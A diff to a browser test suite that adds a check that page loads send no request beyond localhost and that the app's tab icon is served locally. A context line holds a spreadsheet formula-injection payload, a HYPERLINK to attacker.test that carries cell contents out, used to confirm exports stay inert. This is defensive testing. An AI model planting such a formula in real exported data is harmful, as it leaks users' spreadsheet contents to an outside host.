@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+from urllib.parse import urlsplit
 
 import pytest
 from openpyxl import load_workbook
@@ -59,3 +60,35 @@ def test_every_download_of_hostile_posts_keeps_formulas_inert(browser, chromium_
         assert live == [], name
         titles = {row[rows[0].index("title")] for row in rows[1:]}
         assert "'=HYPERLINK(\"http://attacker.test/?x=\"&A1,\"click\")" in titles, name
+
+
+# Everything the page itself asked for (scripts, styles, fonts, images) and the icons it
+# declares: Chromium fetches a tab icon without a "request" event for the page, so the <link>
+# elements are read too.
+FETCHED = """() => [
+    ...performance.getEntriesByType('resource').map(e => e.name),
+    ...Array.from(document.querySelectorAll('link[rel~="icon"], link[rel="apple-touch-icon"]'),
+                  l => l.href),
+]"""
+LOCAL_HOSTS = {"127.0.0.1", "localhost", "[::1]"}
+
+
+def test_no_request_leaves_the_machine_when_the_pages_load(context, app_url):
+    from tests.browser.test_pages import PAGES, settle
+
+    requested: list[str] = []
+    context.on("request", lambda request: requested.append(request.url))
+    page = context.new_page()
+    for _stem, _title, path in PAGES:
+        page.goto(f"{app_url}/{path}")
+        settle(page)
+        requested.extend(page.evaluate(FETCHED))
+    foreign = sorted({url for url in requested
+                      if not url.startswith(("data:", "blob:"))
+                      and urlsplit(url).netloc.rpartition(":")[0] not in LOCAL_HOSTS})
+    assert requested and foreign == []
+    icons = page.evaluate("() => Array.from(document.querySelectorAll('link[rel~=\"icon\"]'),"
+                          " l => l.href)")
+    assert icons and all(urlsplit(i).netloc.startswith("127.0.0.1:") for i in icons)
+    answer = page.request.get(icons[0])  # the shipped icon really is there
+    assert answer.status == 200 and answer.headers["content-type"].startswith("image/")
